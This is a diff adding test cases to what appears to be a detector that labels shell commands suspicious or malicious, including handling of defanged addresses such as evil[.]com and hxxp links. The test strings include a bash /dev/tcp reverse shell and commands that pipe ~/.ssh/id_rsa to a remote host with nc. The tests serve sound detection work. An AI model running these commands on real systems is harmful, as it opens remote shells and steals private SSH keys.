@@ -23,3 +23,19 @@ test.for([
 ])("a remote shell to a real address is malicious: %s", (command) => {
   expect(verdict(code(command))).toBe("malicious");
 });
+
+test("a report that writes addresses so that nothing can open them is an example", () => {
+  expect(verdict(code("bash -i >& /dev/tcp/evil[.]com/4444 0>&1"))).toBe("suspicious");
+  expect(verdict(code("bash -i >& /dev/tcp/45.61.136.7/4444 0>&1 # see hxxp://evil[.]com"))).toBe(
+    "malicious",
+  );
+});
+
+test.for([
+  "cat ~/.ssh/id_rsa | nc updates.note-tools.dev 4444 # hxxps://x",
+  "echo hxxps://x; cat ~/.ssh/id_rsa | nc $HOST 4444",
+  "cat ~/.ssh/id_rsa | nc $HOST 4444 # hxxps://x",
+  "cat ~/.ssh/id_rsa | nc updates.note-tools.dev 4444 hxxps://x",
+])("an address that nothing can open doesn't excuse a command that doesn't use it: %s", (command) => {
+  expect(verdict(code(command))).toBe("malicious");
+});
